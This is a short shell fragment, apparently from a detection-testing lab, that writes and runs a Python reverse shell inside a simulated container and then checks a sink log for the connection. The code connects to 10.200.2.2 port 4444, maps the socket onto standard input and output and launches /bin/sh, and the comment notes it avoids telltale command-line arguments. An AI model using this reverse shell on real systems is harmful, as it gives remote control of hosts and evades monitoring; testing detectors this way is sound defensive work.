# V11 C2-001 from a script file (no telltale argv): python connects, dup2()s the socket onto 0-2, execs a shell
cat > "$H/v11_rs.py" <<'P'
import os, socket
s = socket.create_connection(("10.200.2.2", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "echo shell-over-socket; id; sleep 1"])
P
ctr_run simctr-infer-v11 ctr-infer --mount --pid --fork --mount-proc -- timeout 8 python3 "$H/v11_rs.py"
grep ':4444' "$H/sink.log" | tail -1
